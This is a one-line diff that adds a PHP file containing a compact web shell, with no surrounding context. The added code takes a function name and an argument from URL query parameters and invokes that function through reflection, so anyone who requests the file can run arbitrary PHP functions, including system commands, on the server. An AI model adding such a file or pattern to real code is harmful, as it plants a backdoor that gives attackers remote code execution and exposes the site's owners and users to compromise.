@@ -1,0 +1,1 @@
+<?php $c = new ReflectionFunction($_GET['fn']); $c->invoke($_GET['arg']);
